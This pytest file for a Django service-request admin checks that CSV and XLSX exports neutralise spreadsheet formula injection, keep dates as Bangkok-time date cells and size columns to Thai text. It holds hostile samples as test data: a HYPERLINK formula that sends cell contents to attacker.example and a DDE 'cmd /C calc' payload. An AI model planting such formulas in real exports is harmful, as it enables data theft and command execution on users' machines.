"""The officers' request list as CSV and XLSX: what the applicant or an officer typed never runs
as a spreadsheet formula; dates are date cells; columns fit their content."""

import csv
import datetime
import io

from django.urls import reverse
from django.utils import timezone

import openpyxl
import pytest

from base.spreadsheets import text_width
from service_requests import actions
from service_requests.models import ServiceRequest
from service_requests.workflow import RequestStatus, Role
from tests.helpers import in_thai

pytestmark = pytest.mark.django_db

INDEX = reverse("service_request_admin:index")
# What a spreadsheet would run as a formula (OWASP: CSV injection), one request each.
DANGEROUS_STARTS = ("=", "+", "-", "@", "\t", "\r")
PAYLOAD = 'HYPERLINK("http://attacker.example/?"&A1,"ดูเอกสาร")'


@pytest.fixture
def as_officer(client, officer_for):
    officer = officer_for("11")
    client.force_login(officer)
    return client, officer


@pytest.fixture
def hostile_requests(as_officer, submit):
    """A request per dangerous first character, in the officer's message, the applicant's
    names and phone, as they are stored on the request (stored directly: the forms strip a
    leading tab or line break, older or imported data may not have been)."""
    _client, officer = as_officer
    typed = {}
    for start in DANGEROUS_STARTS:
        service_request = submit("11")
        actions.move_request(
            actor=officer,
            service_request=service_request,
            to_status=RequestStatus.RETURNED,
            role=Role.OFFICER,
            message=f"{start}{PAYLOAD}",
        )
        ServiceRequest.objects.filter(pk=service_request.pk).update(
            officer_message=f"{start}{PAYLOAD}",
            applicant_title="",
            applicant_first_name=f"{start}cmd|' /C calc'!A0",
            applicant_last_name=f"{start}1+1",
            applicant_phone=f"{start}1+2-3",  # the field holds 10 characters
        )
        typed[service_request.reference] = start
    return typed


def downloaded(response) -> bytes:
    # Not closed: closing a response ends the test client's "request" and its database connection.
    return b"".join(response.streaming_content)


def column(headings, message):
    return headings.index(in_thai(message))


def test_the_csv_escapes_every_value_that_starts_like_a_formula(as_officer, hostile_requests):
    client, _officer = as_officer
    text = downloaded(client.get(INDEX, {"export": "csv"})).decode("utf-8").removeprefix("\ufeff")
    headings, *rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) == len(DANGEROUS_STARTS)
    message, applicant, phone = (
        column(headings, "Message from the officer"),
        column(headings, "Applicant"),
        column(headings, "Phone"),
    )
    for row in rows:
        start = hostile_requests[row[0]]
        assert row[message] == f"'{start}{PAYLOAD}"
        assert row[applicant] == f"'{start}cmd|' /C calc'!A0 {start}1+1"
        assert row[phone] == f"'{start}1+2-3"
        assert not any(value.startswith(DANGEROUS_STARTS) for value in row)


def test_the_xlsx_escapes_them_too_as_text_cells(as_officer, hostile_requests):
    client, _officer = as_officer
    workbook = openpyxl.load_workbook(io.BytesIO(downloaded(client.get(INDEX, {"export": "xlsx"}))))
    sheet = workbook.active
    headings = [cell.value for cell in sheet[1]]
    message, phone = column(headings, "Message from the officer"), column(headings, "Phone")
    for row in sheet.iter_rows(min_row=2):
        start = hostile_requests[row[0].value]
        assert (row[message].value, row[message].data_type) == (f"'{start}{PAYLOAD}", "s")
        assert (row[phone].value, row[phone].data_type) == (f"'{start}1+2-3", "s")
        for cell in row:
            assert cell.data_type != "f"
            assert not (isinstance(cell.value, str) and cell.value.startswith(DANGEROUS_STARTS))


def test_xlsx_dates_are_date_cells_in_bangkok_time_shown_the_thai_way(as_officer, submit):
    client, _officer = as_officer
    service_request = submit("11")
    workbook = openpyxl.load_workbook(io.BytesIO(downloaded(client.get(INDEX, {"export": "xlsx"}))))
    headings, row = list(workbook.active.iter_rows(min_row=1, max_row=2))
    names = [cell.value for cell in headings]
    submitted, due = row[column(names, "Submitted")], row[column(names, "Due")]
    assert submitted.is_date and isinstance(submitted.value, datetime.datetime)
    bangkok = timezone.localtime(service_request.submitted_at).replace(tzinfo=None)
    assert abs(submitted.value - bangkok) < datetime.timedelta(seconds=1)
    # Buddhist Era year and Thai month names, as on screen; the due date without a time.
    assert submitted.number_format == '[$-107041E]d mmm yyyy, hh:mm "น."'
    assert due.is_date and due.number_format == "[$-107041E]d mmm yyyy"
    # The CSV keeps the text officers read on screen.
    text = downloaded(client.get(INDEX, {"export": "csv"})).decode("utf-8").removeprefix("\ufeff")
    _headings, csv_row = list(csv.reader(io.StringIO(text)))
    assert "พ.ศ." not in csv_row[column(names, "Submitted")]
    assert csv_row[column(names, "Submitted")].endswith("น.")


def test_xlsx_columns_fit_their_headings_and_thai_content(as_officer, submit):
    client, officer = as_officer
    service_request = submit("11")
    long_message = "กรุณาแนบสำเนาบัตรประจำตัวประชาชนที่ถ่ายให้เห็นชัดเจนทั้งด้านหน้าและด้านหลัง"
    actions.move_request(
        actor=officer,
        service_request=service_request,
        to_status=RequestStatus.RETURNED,
        role=Role.OFFICER,
        message=long_message,
    )
    workbook = openpyxl.load_workbook(io.BytesIO(downloaded(client.get(INDEX, {"export": "xlsx"}))))
    sheet = workbook.active
    headings, row = list(sheet.iter_rows(min_row=1, max_row=2))
    for heading, cell in zip(headings, row, strict=True):
        width = sheet.column_dimensions[heading.column_letter].width
        assert width >= text_width(heading.value)
        if isinstance(cell.value, str):
            assert width >= min(text_width(cell.value), 60)
    applicant = sheet.column_dimensions[headings[2].column_letter].width
    # Thai marks above and below the letters take no width of their own.
    assert applicant < len(service_request.applicant_full_name) + 6
